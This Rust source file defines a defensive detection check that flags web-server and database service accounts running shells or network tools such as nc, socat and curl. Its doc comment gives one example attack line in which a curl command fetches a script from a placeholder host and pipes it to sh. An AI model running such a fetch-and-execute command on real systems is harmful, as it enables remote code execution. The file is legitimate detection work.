//! `process.service_user_shell` — web-server or database accounts running shells and tools.
//!
//! **What it looks at:** processes whose user is a service account (www-data, nginx, apache,
//! nobody, tomcat, mysql, postgres, redis, elasticsearch …) and whose program is a shell,
//! interpreter or network tool.
//!
//! **Why an attacker leaves this trace:** a webshell or a service exploit runs commands as the
//! service's user: `sh -c id` under www-data, `bash -i` under redis. Services do not normally
//! spawn shells.
//!
//! **Example:** pid 7001 `sh -c curl http://x/s.sh|sh` as www-data, parent php-fpm.
//!
//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
//! medium for what needs a look, low and info for context; a weakness rather than an act is
//! marked `hardening` (docs/PRECISION.md).
//!
//! **ATT&CK:** T1505.003 (Web Shell), T1059.004 (Unix Shell).

use huoyan_artifacts::proc::LinkTarget;
use huoyan_core::{CheckInfo, Outcome, Severity};
use serde_json::json;

use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct ServiceUserShell;

static INFO: CheckInfo = CheckInfo {
    id: "process.service_user_shell",
    title: "Web or database account running a shell or tool",
    title_zh: "Web 或数据库账号正在运行 shell 或工具",
    mitre: &["T1505.003", "T1059.004"],
    remediation: "Look for a webshell or an exploited service (huoyan web), dump and stop the \
                  process, and check the service's access logs around its start time.",
    remediation_zh: "排查 webshell 或被利用的服务（huoyan web），转储并结束进程，并检查该服务在进程启动时间附近的访问日志。",
};

const SERVICE_USERS: &[&str] = &[
    "www-data",
    "www",
    "nginx",
    "apache",
    "httpd",
    "nobody",
    "tomcat",
    "tomcat9",
    "tomcat10",
    "jetty",
    "mysql",
    "postgres",
    "redis",
    "mongodb",
    "elasticsearch",
    "memcache",
    "daemon",
    "php-fpm",
    "solr",
    "weblogic",
    "jboss",
    "wildfly",
];

const TOOLS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "wget", "curl", "telnet", "nmap", "ssh",
];

impl Check for ServiceUserShell {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }
    fn live_only(&self) -> bool {
        true
    }
    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let Some(scene) = super::scene(ctx, out) else {
            return;
        };
        for p in super::examined(ctx, scene) {
            let user = p.user_label();
            if !SERVICE_USERS.contains(&user.as_str()) {
                continue;
            }
            let Some(LinkTarget::Path { path, .. }) = &p.exe else {
                continue;
            };
            let name = super::base_name(path);
            let shell = super::is_shell(name);
            let tool = TOOLS.contains(&name);
            // php-fpm, node and java are how these services run: only shells and tools count.
            if !(shell || tool) {
                continue;
            }
            out.add(
                INFO.finding(
                    if shell {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    format!(
                        "pid {} runs {} as service account {user} (parent {})",
                        p.pid,
                        p.command(),
                        p.ppid
                    ),
                )
                .pid(p.pid)
                .user(user.clone())
                .path(path.clone())
                .at(p.start_time)
                .evidence(json!({"exe": path, "cmdline": p.cmdline, "ppid": p.ppid})),
            );
        }
    }
}
